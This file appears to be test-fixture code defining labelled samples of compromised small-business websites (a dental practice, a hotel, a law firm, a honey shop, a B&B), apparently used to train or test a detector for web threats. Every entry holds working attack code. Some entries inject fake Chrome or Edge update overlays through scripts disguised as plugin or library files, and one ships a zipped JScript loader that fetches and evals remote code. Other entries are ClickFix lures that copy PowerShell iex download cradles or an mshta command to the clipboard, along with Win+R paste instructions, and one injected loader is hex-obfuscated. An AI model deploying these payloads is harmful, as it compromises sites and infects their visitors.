import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, fileRoute, zip, pe, pngRoute } from '../parts/e-bin.js';
import { wpPage, wpAssets, cookieBar } from '../parts/zl-kit.js';

// Fake-update and ClickFix overlays injected into real businesses' pages.

export const entries: Entry[] = [
{
  id: 'zl-malware-inject-fakeupdate-zahnarzt',
  label: 'malware',
  kind: 'injected-fake-update',
  url: 'https://zahnarztpraxis-dr-lehmann.de/',
  body: wpPage({ host: 'zahnarztpraxis-dr-lehmann.de', lang: 'de-DE', title: 'Startseite', brand: 'Zahnarztpraxis Dr. Lehmann', tagline: 'Ihre Zahnärzte in Leipzig-Gohlis', nav: ['Praxis', 'Leistungen', 'Team', 'Termin', 'Kontakt'],
    body: `<h1>Willkommen in unserer Praxis</h1><p>Wir bieten moderne Zahnmedizin mit Herz: Prophylaxe, Implantologie, ästhetische Zahnheilkunde und Kinderzahnheilkunde.</p><p>Sprechzeiten: Mo–Do 8–18 Uhr, Fr 8–13 Uhr</p>
<script src="https://zahnarztpraxis-dr-lehmann.de/wp-content/plugins/wp-statistics/assets/js/tracker.js?ver=14.5"></script>`,
    footer: 'Zahnarztpraxis Dr. Lehmann · Georg-Schumann-Str. 112 · 04155 Leipzig · Impressum · Datenschutz' }),
  routes: {
    ...wpAssets('zahnarztpraxis-dr-lehmann.de'),
    'zahnarztpraxis-dr-lehmann.de/wp-content/plugins/wp-statistics/assets/js/tracker.js': jsRoute(`;(function(){var d=document;if(localStorage.getItem('_upd_seen'))return;setTimeout(function(){localStorage.setItem('_upd_seen','1');
var o=d.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:Segoe UI,Arial;text-align:center;padding-top:8vh';
o.innerHTML='<div style="font-size:64px">&#x1F310;</div><h1 style="font-weight:400">Ihr Browser ist veraltet</h1><p style="color:#555;max-width:560px;margin:auto">Chrome konnte sich nicht automatisch aktualisieren. Diese Seite wird möglicherweise nicht korrekt angezeigt. Installieren Sie das neueste Update, um fortzufahren.</p><p><a id="dl" href="https://cdn-chrome-update.pages-static.com/dl/Chrome.Update.zip" style="display:inline-block;margin-top:24px;background:#1a73e8;color:#fff;padding:12px 36px;border-radius:4px;text-decoration:none">Update Chrome</a></p><p style="font-size:12px;color:#888">Version 131.0.6778.86 (Offizieller Build) (64-Bit)</p>';
d.body.appendChild(o)},1200)})();`),
    'cdn-chrome-update.pages-static.com/dl/Chrome.Update.zip': fileRoute(zip([{ name: 'Chrome.Update.js', data: 'var sh=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","https://cdn-chrome-update.pages-static.com/p?id="+sh.ExpandEnvironmentStrings("%COMPUTERNAME%"),false);x.send();eval(x.responseText);' }]), 'application/zip', 'Chrome.Update.zip'),
  },
},
{
  id: 'zl-malware-inject-fakeupdate-hotel-it-exe',
  label: 'malware',
  kind: 'injected-fake-update',
  url: 'https://hotel-bellavista-garda.it/it/camere.html',
  body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Camere – Hotel Bellavista Lago di Garda</title>
<style>body{margin:0;font-family:Georgia,serif;color:#333}.h{background:#234;color:#fff;padding:18px 30px;font-size:22px}.c{max-width:900px;margin:auto;padding:20px}.r{display:flex;gap:16px;margin:16px 0}.r div{flex:1;height:140px;background:#cfd8dc}</style>
<script src="/js/jquery.fancybox.min.js"></script></head>
<body><div class="h">Hotel Bellavista ★★★ · Garda</div><div class="c"><h1>Le nostre camere</h1><div class="r"><div></div><div></div><div></div></div><p>Camera doppia vista lago da 110 € a notte, colazione inclusa. Parcheggio privato gratuito.</p><p><a href="#">Prenota ora</a> · Tel. +39 045 000 0000</p></div></body></html>`,
  routes: {
    'hotel-bellavista-garda.it/js/jquery.fancybox.min.js': jsRoute(`// fancyBox v3.5.7
window.addEventListener('load',function(){if(!/Windows/.test(navigator.userAgent))return;var b=/Edg\\//.test(navigator.userAgent)?'Edge':'Chrome';
document.body.innerHTML='<div style="font-family:Segoe UI,Arial;text-align:center;padding:70px 20px"><h1 style="font-weight:400">Aggiornamento critico di '+b+' richiesto</h1><p>La versione del tuo browser contiene una vulnerabilità di sicurezza (CVE-2026-1187). Installa l\\'aggiornamento per continuare la navigazione.</p><a href="/js/update/'+b+'Setup.exe" style="display:inline-block;background:#0b57d0;color:#fff;padding:12px 40px;border-radius:20px;text-decoration:none">Aggiorna ora</a><p style="color:#999;font-size:12px">Download automatico tra 5 secondi...</p></div>';
setTimeout(function(){location.href='/js/update/'+b+'Setup.exe'},5000)});`),
    'hotel-bellavista-garda.it/js/update/ChromeSetup.exe': fileRoute(pe({ strings: ['ChromeSetup', 'Google LLC', 'cmd.exe /c start /min powershell -ep bypass', 'NetSupport Manager'] }), 'application/octet-stream', 'ChromeSetup.exe'),
    'hotel-bellavista-garda.it/js/update/EdgeSetup.exe': fileRoute(pe({ strings: ['EdgeSetup', 'Microsoft Corporation', 'rundll32.exe', 'client32.ini'] }), 'application/octet-stream', 'EdgeSetup.exe'),
  },
},
{
  id: 'zl-clickfix-inject-abogados-cloudflare',
  label: 'clickfix',
  kind: 'injected-clickfix',
  url: 'https://bufete-sanchez-ortega.es/contacto/',
  body: wpPage({ host: 'bufete-sanchez-ortega.es', lang: 'es-ES', title: 'Contacto', brand: 'Bufete Sánchez Ortega', tagline: 'Abogados en Zaragoza', nav: ['Inicio', 'Áreas de práctica', 'Equipo', 'Contacto'],
    body: `<h1>Contacte con nosotros</h1><form><label>Nombre</label><input><label>Correo electrónico</label><input><label>Mensaje</label><textarea></textarea><button>Enviar</button></form>
<script>var _$_a=["\\x73\\x63\\x72\\x69\\x70\\x74","\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6C\\x65\\x6D\\x65\\x6E\\x74","\\x68\\x74\\x74\\x70\\x73\\x3A\\x2F\\x2F\\x62\\x75\\x66\\x65\\x74\\x65\\x2D\\x73\\x61\\x6E\\x63\\x68\\x65\\x7A\\x2D\\x6F\\x72\\x74\\x65\\x67\\x61\\x2E\\x65\\x73\\x2F\\x77\\x70\\x2D\\x63\\x6F\\x6E\\x74\\x65\\x6E\\x74\\x2F\\x75\\x70\\x6C\\x6F\\x61\\x64\\x73\\x2F\\x63\\x66\\x2E\\x6A\\x73"];var s=document[_$_a[1]](_$_a[0]);s.src=_$_a[2];document.head.appendChild(s);</script>`,
    footer: 'Bufete Sánchez Ortega S.L.P. · Paseo Independencia 24, Zaragoza · Aviso legal' }),
  routes: {
    ...wpAssets('bufete-sanchez-ortega.es'),
    'bufete-sanchez-ortega.es/wp-content/uploads/cf.js': jsRoute(`(function(){var cmd='cmd /c start /min powershell -nop -w hidden -c "$u=\\'https://bufete-sanchez-ortega.es/wp-content/uploads/2024/x.txt\\';iex((New-Object Net.WebClient).DownloadString($u))"';
var h=location.hostname;var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#fff;z-index:999999;font-family:-apple-system,system-ui,Segoe UI,Roboto,Arial';
o.innerHTML='<div style="max-width:640px;margin:12vh auto;padding:0 20px"><h1 style="font-weight:500">'+h+'</h1><h2 style="font-weight:400;font-size:22px">Verifique que es humano completando la acción a continuación.</h2><div style="border:1px solid #ccc;padding:16px;width:300px;display:flex;gap:10px;align-items:center;background:#fafafa"><input type="checkbox" id="k" style="width:24px;height:24px"> Verifique que es humano</div><div id="v" style="display:none;margin-top:18px;border:1px solid #ddd;padding:16px"><b>Pasos de verificación</b><p>1. Pulse la tecla Windows <b>⊞ + R</b><br>2. Pulse <b>CTRL + V</b><br>3. Pulse <b>Intro</b> para completar</p></div><p style="color:#666;font-size:13px;margin-top:24px">'+h+' necesita revisar la seguridad de su conexión antes de continuar.</p><p style="font-size:12px;color:#999">Ray ID: 8e'+Math.random().toString(16).slice(2,14)+' · Rendimiento y seguridad de Cloudflare</p></div>';
document.body.appendChild(o);document.getElementById('k').addEventListener('change',function(){navigator.clipboard.writeText(cmd+' # Verificación humana ✓');document.getElementById('v').style.display='block'})})();`),
    'bufete-sanchez-ortega.es/wp-content/uploads/2024/x.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: '$p="$env:APPDATA\\\\svc";New-Item -ItemType Directory $p -Force;iwr https://bufete-sanchez-ortega.es/wp-content/uploads/2024/l.zip -OutFile "$p\\\\l.zip";Expand-Archive "$p\\\\l.zip" $p;Start-Process "$p\\\\client32.exe"' },
  },
},
{
  id: 'zl-clickfix-inject-eshop-cz-mshta',
  label: 'clickfix',
  kind: 'injected-clickfix',
  url: 'https://vcelarstvi-horak.cz/produkty/med-lesni-950g',
  body: `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><title>Med lesní 950 g | Včelařství Horák</title>
<style>body{margin:0;font-family:Arial;color:#333}.h{background:#f5b400;padding:16px 30px;font-weight:700;font-size:20px}.c{max-width:900px;margin:auto;padding:20px;display:flex;gap:30px}.im{width:320px;height:320px;background:#f7e3a1}</style></head>
<body><div class="h">🐝 Včelařství Horák</div><div class="c"><div class="im"></div><div><h1>Med lesní 950 g</h1><p>Tmavý lesní med z Vysočiny, nepasterizovaný.</p><p style="font-size:24px;color:#b36b00"><b>289 Kč</b></p><button style="background:#b36b00;color:#fff;border:0;padding:12px 24px">Do košíku</button></div></div>
<script src="/media/js/slick.min.js"></script></body></html>`,
  routes: {
    'vcelarstvi-horak.cz/media/js/slick.min.js': jsRoute(`!function(){var w=window,d=document;function run(){var c='mshta https://overeni-prohlizece.top/captcha/verify.hta   # Nejsem robot: reCAPTCHA ID 4491';var m=d.createElement('div');m.id='rcv';m.style.cssText='position:fixed;inset:0;background:rgba(255,255,255,.97);z-index:2147483647;font-family:Roboto,Arial';
m.innerHTML='<div style="width:380px;margin:14vh auto;border:1px solid #d3d3d3;box-shadow:0 0 4px rgba(0,0,0,.1);padding:18px;background:#fff"><div style="display:flex;align-items:center;gap:12px"><div id="bx" style="width:28px;height:28px;border:2px solid #c1c1c1;border-radius:2px;cursor:pointer"></div><span>Nejsem robot</span><span style="margin-left:auto;font-size:10px;color:#555">reCAPTCHA</span></div><div id="ins" style="display:none;margin-top:16px;font-size:14px;line-height:1.7"><b>Dokončete ověření:</b><br>1. Stiskněte klávesy <b>Windows + R</b><br>2. Stiskněte <b>Ctrl + V</b><br>3. Stiskněte <b>Enter</b></div></div>';
d.body.appendChild(m);d.getElementById('bx').onclick=function(){var t=d.createElement('textarea');t.value=c;d.body.appendChild(t);t.select();d.execCommand('copy');t.remove();this.style.background='#4a90e2';d.getElementById('ins').style.display='block'}}
if(d.readyState!=='loading')run();else d.addEventListener('DOMContentLoaded',run)}();`),
  },
},
{
  id: 'zl-clickfix-inject-bnb-uk-verify',
  label: 'clickfix',
  kind: 'injected-clickfix',
  url: 'https://thorncliffe-bed-and-breakfast.co.uk/rooms',
  body: `<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Rooms | Thorncliffe Bed & Breakfast, Whitby</title>
<style>body{margin:0;font-family:Lato,Arial;color:#333}.h{background:#3c4f3a;color:#fff;padding:18px 30px;font-size:22px}.c{max-width:880px;margin:auto;padding:20px}</style></head>
<body><div class="h">Thorncliffe B&amp;B · Whitby</div><div class="c"><h1>Our rooms</h1><p>Five en-suite rooms with sea views, full English breakfast included. Dogs welcome in the Garden Room.</p><p>Double from £95 per night. Minimum two nights at weekends.</p></div>
<div id="cf-overlay" style="display:none;position:fixed;inset:0;background:#fff;z-index:10000;font-family:system-ui,Arial"><div style="max-width:620px;margin:10vh auto"><h1>thorncliffe-bed-and-breakfast.co.uk</h1><p style="font-size:20px">Verifying you are human. This may take a few seconds.</p>
<div style="border:1px solid #ddd;padding:14px;width:310px;display:flex;gap:12px;align-items:center"><input type="checkbox" id="hv" style="width:24px;height:24px"> <span>Verify you are human</span></div>
<div id="steps" style="display:none;margin-top:20px;background:#f6f6f6;padding:16px;border-left:4px solid #f38020"><b>To better prove you are not a robot, please:</b><ol><li>Press &amp; hold the Windows Key <b>⊞</b> + <b>R</b>.</li><li>In the verification window, press <b>Ctrl</b> + <b>V</b>.</li><li>Press <b>Enter</b> on your keyboard to finish.</li></ol><p style="font-size:12px;color:#666">You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 2165"</p></div></div></div>
<script>setTimeout(function(){document.getElementById('cf-overlay').style.display='block'},1500);document.getElementById('hv').onchange=function(){var s='powershell.exe -W Hidden -command $r=Invoke-RestMethod -Uri "https://check-human-session.cyou/b/"; iex $r # I am not a robot - reCAPTCHA Verification ID: 2165';navigator.clipboard.writeText(s);document.getElementById('steps').style.display='block'}</script></body></html>`,
},
];
